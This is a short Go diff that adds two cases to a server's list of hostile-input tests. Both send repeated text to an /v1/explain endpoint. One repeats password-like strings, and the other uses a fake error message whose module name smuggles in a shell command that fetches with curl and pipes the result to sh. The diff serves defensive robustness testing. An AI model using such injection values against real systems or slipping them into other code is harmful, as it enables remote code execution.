@@ -42,6 +42,12 @@ var attacks = []attack{
 	{"lone-carriage-returns", func(s *server) error { return s.together(8, "/v1/fix", "text/plain", repeated("a:\r")) }},
 	{"control-characters", func(s *server) error { return s.together(8, "/v1/preview?platform=drycc", "text/plain", controls()) }},
 	{"explained-backslashes", func(s *server) error { return s.together(8, "/v1/explain", "text/plain", repeated(`\`)) }},
+	{"explained-secrets", func(s *server) error {
+		return s.together(8, "/v1/explain", "text/plain", repeated(`DB_PASSWORD=x password: "y" ://a:b mysql -p `))
+	}},
+	{"explained-names", func(s *server) error {
+		return s.together(8, "/v1/explain", "text/plain", repeated("Error: Cannot find module 'a;curl${IFS}x|sh'\n"))
+	}},
 }
 
 // attackFigures does to the built server, and to the command, what hostile clients and files would: clients that do not
